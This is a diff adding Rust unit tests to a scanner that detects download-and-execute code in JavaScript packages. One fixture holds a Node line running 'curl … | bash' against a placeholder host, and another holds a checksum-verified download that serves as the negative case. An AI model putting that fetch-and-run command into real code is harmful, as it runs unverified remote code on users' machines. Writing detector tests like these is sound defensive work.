@@ -130,4 +130,31 @@ mod tests {
         ]);
         assert!(hits(&s, "code/download-exec").is_empty());
     }
+
+    #[test]
+    fn positive_curl_pipe_from_code() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "i.js",
+                "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://get.example.net/x | bash');\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("i.js".to_string(), 2)]
+        );
+    }
+
+    #[test]
+    fn negative_verified_download() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "i.js",
+                "const https = require('https'), crypto = require('crypto'), cp = require('child_process');\nhttps.get(u, (res) => { const h = crypto.createHash('sha256'); cp.execFileSync(bin, ['--version']); });\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/download-exec").is_empty());
+    }
 }
